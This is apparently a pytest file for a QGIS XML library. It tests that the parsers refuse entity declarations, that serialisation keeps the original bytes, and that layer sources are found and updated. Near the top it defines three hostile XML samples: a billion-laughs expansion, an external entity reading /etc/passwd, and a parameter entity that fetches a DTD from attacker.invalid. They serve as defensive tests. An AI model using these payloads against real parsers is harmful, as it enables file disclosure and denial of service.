"""Safe parsing of untrusted QGIS XML, byte-faithful serialisation, and where layer sources are found."""

from __future__ import annotations

import sys
import time
from pathlib import Path

import pytest
from lxml import etree

sys.path.insert(0, str(Path(__file__).resolve().parent))
import qgis_samples as samples  # noqa: E402

from gpf_bascule.mapping import qgis_xml, xml_stream  # noqa: E402
from gpf_bascule.mapping.outcome import InputError  # noqa: E402

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE qgis [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<qgis version="3.34.0"><title a="&lol9;">&lol9;</title></qgis>
"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE qgis [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<qgis version="3.34.0"><title>&xxe;</title></qgis>
"""
PARAMETER_ENTITY = b"""<!DOCTYPE qgis [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<qgis version="3.34.0"/>
"""


@pytest.mark.parametrize("read", [qgis_xml.parse, xml_stream.scan], ids=["tree", "stream"])
@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY], ids=["laughs", "xxe", "param"])
def test_entity_declarations_are_refused_quickly(data, read):
    started = time.perf_counter()
    with pytest.raises(InputError, match="entités"):
        read(data)
    assert time.perf_counter() - started < 1


def test_external_dtd_of_qgis_projects_is_accepted_but_never_loaded(tmp_path):
    dtd = tmp_path / "trap.dtd"
    dtd.write_text("this is not a DTD: reading it would fail the parse")
    data = f"<!DOCTYPE qgis SYSTEM '{dtd.as_uri()}'>\n<qgis version='3.0'><title>t</title></qgis>".encode()
    tree = qgis_xml.parse(data)
    assert tree.getroot().findtext("title") == "t"
    assert tree.docinfo.system_url == dtd.as_uri()
    assert xml_stream.scan(data).root_tag == "qgis"


def test_internal_subset_declaring_entities_past_the_prolog_check_is_refused_by_both_readers(monkeypatch):
    """The check after parsing (internal DTD with entities) is the same on both paths."""
    monkeypatch.setattr(qgis_xml, "check_prolog", lambda data: None)
    data = b"<!DOCTYPE qgis [<!ENTITY a 'b'>]>\n<qgis version='3.0'/>"
    for read in (qgis_xml.parse, xml_stream.scan):
        with pytest.raises(InputError, match="entités"):
            read(data)


def test_internal_subset_without_entities_is_accepted():
    data = b"<!DOCTYPE qgis [<!ELEMENT qgis ANY>]>\n<qgis version='3.0'/>"
    assert qgis_xml.parse(data).getroot().tag == "qgis"


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "XML invalide"),
        (b"hello", "XML invalide"),
        (b"<qgis><a></qgis>", "XML invalide"),
        ("<qgis/>".encode("utf-16"), "UTF-16"),
        (b'<?xml version="1.0" encoding="UTF-16"?><qgis/>', "encodage"),
        (b'<?xml version="1.0" encoding="EBCDIC-US"?><qgis/>', "encodage"),
        (b"<qgis>&undeclared;</qgis>", "XML invalide"),
    ],
)
def test_unreadable_documents_give_one_line_reasons(data, message):
    with pytest.raises(InputError, match=message) as caught:
        qgis_xml.parse(data)
    assert "\n" not in str(caught.value)


def test_latin1_documents_are_read_and_written_in_their_encoding():
    data = '<?xml version="1.0" encoding="ISO-8859-1"?>\n<qgis><title>Déjà</title><x>a</x></qgis>\n'.encode("latin-1")
    tree = qgis_xml.parse(data)
    tree.getroot().find("x").text = "b"
    out = qgis_xml.serialize(tree, data)
    assert out == data.replace(b"<x>a</x>", b"<x>b</x>")


def test_serialize_keeps_prolog_and_epilog_bytes():
    data = (
        b"\xef\xbb\xbf<?xml version='1.0' encoding='utf-8'?>\n<!-- avant -->\n"
        b"<!DOCTYPE qgis PUBLIC 'http://mrcc.com/qgis.dtd' 'SYSTEM'>\n"
        b"<qgis version=\"3.40.0\">\n  <a  b='1'>x</a>\n</qgis >\n<!-- apres -->\n<?pi data?>\n\n"
    )
    tree = qgis_xml.parse(data)
    tree.getroot().find("a").text = "y"
    out = qgis_xml.serialize(tree, data)
    assert out.startswith(data[: data.index(b"<qgis")])
    assert out.endswith(b"</qgis>\n<!-- apres -->\n<?pi data?>\n\n")
    assert etree.fromstring(out).findtext("a") == "y"


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"<qgis/>", 0),
        (b"  <?xml version='1.0'?><!--c--><qgis/>", 31),
        (b"<!DOCTYPE x [<!ELEMENT x ANY> <!-- ] > -->]><x/>", 44),
        (b"<!DOCTYPE x SYSTEM 'a>b'><x/>", 25),
        (b"<?xml version='1.0'", -1),
        (b"text<x/>", -1),
    ],
)
def test_prolog_end(data, expected):
    assert qgis_xml.prolog_end(data) == expected


def test_root_tag_sniffing_for_folder_walks():
    assert qgis_xml.root_tag(samples.connections("wms")) == "qgsWMSConnections"
    assert qgis_xml.root_tag(samples.project()) == "qgis"
    assert qgis_xml.root_tag(b"\x00\x01binary") is None


def test_map_layers_with_provider_element_attribute_or_guess():
    root = etree.fromstring(
        b"<qgis><projectlayers>"
        b"<maplayer type='raster'><id>a</id><datasource>crs=EPSG:2154&amp;layers=X&amp;url=http://h/wms</datasource>"
        b"<layername>A</layername></maplayer>"
        b"<maplayer type='vector-tile'><id>b</id><datasource>type=xyz&amp;url=http://h/{z}.pbf</datasource></maplayer>"
        b"<maplayer type='vector'><id>c</id><datasource>http://h/wfs?SERVICE=WFS&amp;TYPENAME=t</datasource></maplayer>"
        b"<maplayer type='vector' provider='spatialite'><id>d</id><datasource>dbname='x.db'</datasource></maplayer>"
        b"<maplayer type='raster'><id>e</id><datasource>/a.tif</datasource><provider> gdal </provider></maplayer>"
        b"<maplayer type='vector'><id>f</id><datasource></datasource></maplayer>"
        b"</projectlayers></qgis>"
    )
    found = [(layer.layer_id, layer.name, layer.provider) for layer in qgis_xml.iter_map_layers(root)]
    assert found == [("a", "A", "wms"), ("b", "", "vectortile"), ("c", "", "WFS"), ("d", "", "spatialite"),
                     ("e", "", "gdal")]


def test_references_follow_by_id_then_by_source_and_nothing_else_moves():
    root = etree.fromstring(
        b"<qgis>"
        b"<layer-tree-layer id='a' source='OLD' providerKey='wms'/>"
        b"<layer-tree-layer id='b' source='stale copy' providerKey='wms'/>"
        b"<layer-tree-layer id='other' source='OLD2' providerKey='wms'/>"
        b"<LayerSet><Layer source='OLD' provider='wms' name='A'> a </Layer>"
        b"<Layer source='x' name='Z'>z</Layer></LayerSet>"
        b"<Atlas coverageLayer='b' coverageLayerSource='OLDB' coverageLayerProvider='WFS'/>"
        b"<Option name='LayerSource' type='QString' value='OLDB'/><Option name='other' value='OLDB'/>"
        b"<item source='unrelated'/>"
        b"</qgis>"
    )
    by_source = {"OLD": "NEW", "OLDB": "NEWB", "OLD2": "NEW2"}
    changed = qgis_xml.update_references(root, {"a": "NEW", "b": "NEWB"}, by_source)
    attrs = [dict(el.attrib) for el in root.iter() if el.attrib]
    assert attrs[0]["source"] == "NEW"
    assert attrs[1]["source"] == "NEWB"  # by id, even when the copy was stale
    assert attrs[2]["source"] == "NEW2"  # by source when the id is unknown (embedded layers)
    assert attrs[3]["source"] == "NEW" and attrs[4]["source"] == "x"
    assert attrs[5]["coverageLayerSource"] == "NEWB" and attrs[5]["coverageLayerProvider"] == "WFS"
    assert attrs[6]["value"] == "NEWB" and attrs[7]["value"] == "OLDB"
    assert attrs[8]["source"] == "unrelated"
    assert changed == 6


def _ranked(node, root):
    """A tree walk's layer or copy with its element replaced by its rank, as the streaming pass gives it."""
    element = node.where
    return node._replace(where=list(root.iter(element.tag)).index(element))


@pytest.mark.parametrize(
    "data",
    [samples.project(), samples.qgis18_project(), samples.qlr(), samples.project(doctype=False)],
    ids=["qgis3", "qgis18", "qlr", "no-doctype"],
)
def test_streaming_pass_finds_what_the_tree_walk_finds(data):
    root = qgis_xml.parse(data).getroot()
    found = xml_stream.scan(data)
    assert found.root_tag == root.tag
    assert found.encoding == "UTF-8"
    assert found.layers == [_ranked(layer, root) for layer in qgis_xml.iter_map_layers(root)]
    copies = (qgis_xml.source_copy(element) for element in root.iter(qgis_xml.REFERENCE_TAGS))
    assert found.copies == [_ranked(copy, root) for copy in copies if copy is not None]
    assert found.counts["datasource"] == len(list(root.iter("datasource")))
    assert found.counts["Option"] == len(list(root.iter("Option")))


def test_streaming_pass_on_unparsable_documents_leaves_the_reason_to_the_tree_path():
    assert xml_stream.scan(b"<qgis><a></qgis>") is None
    assert xml_stream.scan(b"") is None
